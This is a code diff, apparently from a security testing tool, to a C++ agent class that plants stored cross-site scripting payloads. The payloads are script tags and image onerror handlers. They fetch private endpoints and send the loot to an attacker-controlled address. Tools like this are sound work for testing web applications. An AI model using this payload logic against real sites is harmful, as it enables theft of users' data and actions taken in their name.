@@ -17,16 +17,17 @@ class XssStored final : public Agent {
         std::string const address = address_on(*evil, "c");
         StoredText text(target);
         if (!text.has_place()) return;
-        for (std::string const& each : script_carriers(quiet_script(target, address)))
-            text.leave(each);
-        victim_reads_and_loot_is_used(target);
+        text.leave_all(script_carriers(quiet_script(target, address)));
+        if (victim_reads_and_loot_is_used(target)) return;
         // These leave the page, so that they come last and alone.
+        std::vector<std::string> carriers;
         for (Channel channel : {Channel::Form, Channel::Navigation}) {
             std::string const script = send_script(channel, address, kAllInReach);
-            text.leave("<script>" + script + "</script>");
-            text.leave("<img src=\"x:\" onerror=" + in_quotes(script) + ">");
+            carriers.push_back("<script>" + script + "</script>");
+            carriers.push_back("<img src=\"x:\" onerror=" + in_quotes(script) + ">");
         }
-        victim_reads_and_loot_is_used(target);
+        text.leave_all(carriers);
+        victim_reads_and_loot_is_used(target, Visit::Another);
     }
 
     static std::string quiet_script(Target& target, std::string const& address) {
@@ -34,10 +35,10 @@ class XssStored final : public Agent {
                              send_script(Channel::Image, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
             script += fetch_and_send(each->path, address);
-        if (target.option(option::kEndpoints).empty()) return script;
+        if (target.option(option::kEndpoints).empty()) return once(script);
         for (Endpoint const* each : unsafe_endpoints(target))
             script += act_script(target, *each, look_at_form(target, *each, As::Attacker));
-        return script;
+        return once(script);
     }
 };
 
